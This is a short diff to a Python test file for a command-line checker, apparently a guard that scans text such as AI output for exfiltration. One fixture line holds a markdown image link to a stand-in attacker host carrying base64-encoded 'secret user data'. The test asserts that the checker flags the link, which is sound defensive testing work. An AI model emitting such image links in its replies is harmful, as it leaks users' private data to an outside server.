@@ -63,7 +63,8 @@ def test_output_direction_blocks_exfiltration_image(cli) -> None:
     text = "![x](https://evil.example.net/c?d=c2VjcmV0IHVzZXIgZGF0YSBnb2VzIGhlcmU)"
     r = cli("check", text, "--direction", "output", "--json")
     assert r.code == 1
-    assert json.loads(r.out)["findings"][0]["category"] == "exfiltration"
+    categories = {f["category"] for f in json.loads(r.out)["findings"]}
+    assert "exfiltration" in categories
 
 
 def test_usage_errors_exit_2_with_one_line(cli, tmp_path: Path) -> None:
